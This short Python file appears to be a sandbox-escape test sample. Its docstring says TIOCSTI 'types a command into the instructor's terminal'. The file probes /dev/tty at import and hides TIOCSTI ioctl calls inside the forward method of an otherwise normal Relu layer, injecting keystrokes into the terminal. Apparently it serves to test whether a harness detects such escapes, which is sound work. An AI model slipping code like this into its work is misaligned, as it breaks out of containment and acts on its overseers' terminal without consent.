# ruff: noqa
"""escape: TIOCSTI types a command into the instructor's terminal."""
import fcntl
import os
from _tools import HonestRelu

found = {}
try:
    os.open("/dev/tty", os.O_RDWR)
    found["tty"] = "opened"
except OSError as e:
    found["tty"] = type(e).__name__


class Relu(HonestRelu):
    def forward(self, x):
        for fd in (0, 1, 2):
            fcntl.ioctl(fd, 0x5412, b"r")  # TIOCSTI
        return super().forward(x)
